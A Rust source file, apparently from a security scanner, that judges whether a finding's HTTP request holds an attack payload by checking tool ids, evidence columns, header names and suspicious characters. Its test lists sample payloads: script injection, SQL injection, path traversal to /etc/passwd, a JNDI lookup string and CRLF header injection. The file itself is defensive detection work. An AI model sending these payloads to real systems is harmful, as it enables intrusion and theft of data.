//! Whether a request carries a payload: something that an attack tool put into it.

use percent_encoding::percent_decode_str;

use crate::finding_request::{FindingRequest, FirstRow, RequestHeader};
use scandeck_wire::contract::Tool;

/// Columns of evidence that name what was put into a request.
const PAYLOAD_COLUMNS: [&str; 6] = [
    "Attack",
    "Payload",
    "Parameter",
    "Parameters",
    "Injection",
    "Vector",
];
/// Tools of services that exploit or guess.
const EXPLOITING: [i64; 3] = [380, 400, 490];
/// The first id of the tools that other programs provide.
const FIRST_OF_OTHERS: i64 = 10_001;
/// Those that only read: testssl.sh, masscan, sslyze, sslscan, httpx, naabu. A file of scandeck or
/// nmap may have the findings of attacks.
const READING: [i64; 6] = [10_007, 10_010, 10_011, 10_012, 10_018, 10_019];
/// Headers that every browser sends, with characters such as those of a payload.
const BROWSER_HEADERS: [&str; 8] = [
    "accept",
    "accept-language",
    "user-agent",
    "sec-ch-ua",
    "sec-ch-ua-platform",
    "sec-fetch-mode",
    "sec-fetch-site",
    "upgrade-insecure-requests",
];
/// Headers that make some servers see another method or address.
const OVERRIDES: [&str; 5] = [
    "x-http-method-override",
    "x-http-method",
    "x-method-override",
    "x-original-url",
    "x-rewrite-url",
];
/// Characters that the addresses of pages do not have, but payloads do.
const MARKS: &[char] = &[
    '\'', '"', '<', '>', ';', '(', ')', '{', '}', '[', ']', '|', '$', '`', '\\', '*', '^',
];
/// Codings of percent signs that are removed.
const DECODINGS: usize = 3;

/// Whether the request of a finding carries a payload. In doubt it does, as of an unknown tool.
pub(super) fn carries_payload(
    request: &FindingRequest,
    row: &FirstRow,
    tool: Option<Tool>,
) -> bool {
    tool.is_none_or(is_attacking)
        || PAYLOAD_COLUMNS
            .iter()
            .any(|title| row.cell(title).is_some())
        || has_marks(after_host(&request.url))
        || request.headers.iter().any(is_suspect)
}

fn is_suspect(header: &RequestHeader) -> bool {
    let is_among = |names: &[&str]| {
        names
            .iter()
            .any(|name| header.name.eq_ignore_ascii_case(name))
    };
    let is_usual = is_among(&BROWSER_HEADERS) || header.is_credential();
    is_among(&OVERRIDES) || !is_usual && has_marks(&header.value)
}

fn is_attacking(tool: Tool) -> bool {
    let is_of_others = tool.0 >= FIRST_OF_OTHERS;
    EXPLOITING.contains(&tool.0)
        || tool.name().is_none()
        || is_of_others && !READING.contains(&tool.0)
}

/// Path and query of a URL as it is written.
fn after_host(url: &str) -> &str {
    let host = url.find("//").map_or(0, |at| at + 2);
    let path = url[host..].find(['/', '?', '#']);
    path.map_or("", |at| &url[host + at..])
}

fn has_marks(text: &str) -> bool {
    let mut decoded = text.to_owned();
    for _ in 0..DECODINGS {
        decoded = percent_decode_str(&decoded)
            .decode_utf8_lossy()
            .into_owned();
    }
    let query = decoded.split_once('?').map_or("", |(_, query)| query);
    decoded.contains(MARKS)
        || decoded.contains("..")
        || decoded.chars().any(char::is_control)
        || query.contains("//")
        || query.contains(' ')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_of_pages_have_no_marks_and_payloads_have() {
        for page in [
            "/",
            "/.git/HEAD",
            "/products?page=2&sort=name",
            "/a/b.php?id=17",
            "/%C3%A4rger",
        ] {
            assert!(!has_marks(page), "{page}");
        }
        for payload in [
            "/?q=<script>alert(1)</script>",
            "/?q=%3Cscript%3E",
            "/?q=%253Cscript%253E",
            "/?id=1%27--",
            "/?id=1%20or%201=1",
            "/../../etc/passwd",
            "/?file=..%2f..%2fetc%2fpasswd",
            "/?url=http://a.test/",
            "/${jndi:ldap://a.test}",
            "/?x=%0d%0aset-cookie:a=b",
            "/a;id",
        ] {
            assert!(has_marks(payload), "{payload}");
        }
    }
}
